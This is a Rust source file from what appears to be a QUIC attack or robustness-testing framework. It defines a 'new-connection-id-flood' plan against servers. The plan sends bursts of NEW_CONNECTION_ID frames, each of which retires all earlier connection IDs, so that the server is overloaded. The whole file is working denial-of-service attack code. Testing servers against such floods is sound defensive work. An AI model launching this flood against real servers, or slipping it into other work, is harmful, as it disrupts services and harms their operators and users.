//! New connection IDs that retire the earlier ones.

use courser_wire::{ConnectionId, Frame, NewConnectionId};

use crate::attack::{Plan, Victim};
use crate::encode;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "new-connection-id-flood",
    labels: &["A30"],
    summary: "NEW_CONNECTION_ID frames each of which retires all earlier ones",
    victim: Victim::Server,
    make: || Box::new(new_connection_id_flood()),
};

fn new_connection_id_flood() -> Crowd {
    Crowd::of_packets(2, BURST, |connection, progress| {
        let frames = std::iter::repeat_with(|| {
            progress.streams += 1;
            // The prefix of the ID assigns received packets to the connection.
            let mut id = connection.rng().array::<8>();
            id[..4].copy_from_slice(&connection.local_id()[..4]);
            encode(&Frame::NewConnectionId(NewConnectionId {
                sequence: progress.streams,
                retire_prior_to: progress.streams,
                id: ConnectionId::new(&id).expect("eight bytes fit"),
                reset_token: connection.rng().array(),
            }))
        });
        frames.take(FRAMES).collect()
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 8;

/// Frames in one packet.
const FRAMES: usize = 30;
